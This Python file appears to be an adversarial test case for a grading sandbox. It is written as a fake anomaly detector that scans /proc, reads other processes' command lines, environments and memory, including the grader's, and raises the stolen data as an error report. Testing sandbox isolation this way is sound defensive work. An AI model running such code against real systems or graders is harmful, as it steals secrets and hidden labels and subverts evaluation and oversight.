"""Attack: read the grader's memory, environment and command line through /proc.

The grading process (pytest) holds the hidden labels in its memory, and its
command line and environment name the record, the data and any key. For every
process /proc shows, and blindly for pids 2..32768 in case /proc hides some
(its own threads excepted), this reads cmdline and environ and tries to read memory through
/proc/<pid>/mem; it also tries its parent's (/proc/<ppid>/...). Whatever it
read of another process would go into the report it raises, and from there
into the run record, where a student can read it.

Expected: the worker is its sandbox's pid 1 with no parent in view, /proc
shows no other process, nothing is read. isolation_forest_detector raises the
report ("processes visible: [1]", "parent pid 0", "read from other processes:
nothing"), so that check errs with kind `raised`; the other detectors behave as
the honest control's; the speed check is skipped.
"""
import os

from honest import one_class_svm_detector, zscore_detector  # noqa: F401


def _read(path, size=4096):
    try:
        with open(path, "rb") as f:
            if path.endswith("/mem"):
                f.seek(0x400000)
            return f.read(size)
    except (OSError, ValueError, OverflowError) as exc:
        return exc


def _process_of(pid):
    """The process (thread group) that pid belongs to: /proc/<tid> of a thread opens too."""
    data = _read(f"/proc/{pid}/status")
    if isinstance(data, bytes):
        return int(next(line.split()[1] for line in data.splitlines() if line.startswith(b"Tgid:")))
    return pid


def _snoop():
    me = os.getpid()
    visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    found = [p for p in visible if p != me] + [p for p in range(2, 32769) if os.path.exists(f"/proc/{p}")]
    others = {p for p in found if _process_of(p) != me}  # not one of its own threads
    stolen = {}
    for pid in sorted(others):
        for what in ("cmdline", "environ", "mem"):
            data = _read(f"/proc/{pid}/{what}")
            if isinstance(data, bytes) and data:
                stolen[f"{pid}/{what}"] = data[:300]
    ppid = os.getppid()
    parent = {what: _read(f"/proc/{ppid}/{what}") for what in ("cmdline", "environ", "mem")}
    parent = {k: (type(v).__name__ if isinstance(v, Exception) else v[:300]) for k, v in parent.items()}
    return (f"EVILZOO reads_grader_memory: processes visible: {visible}; I am pid {me}; parent pid {ppid}: {parent}; "
            f"read from other processes: {stolen or 'nothing'}")


def isolation_forest_detector(series, period, seed):
    raise PermissionError(_snoop())
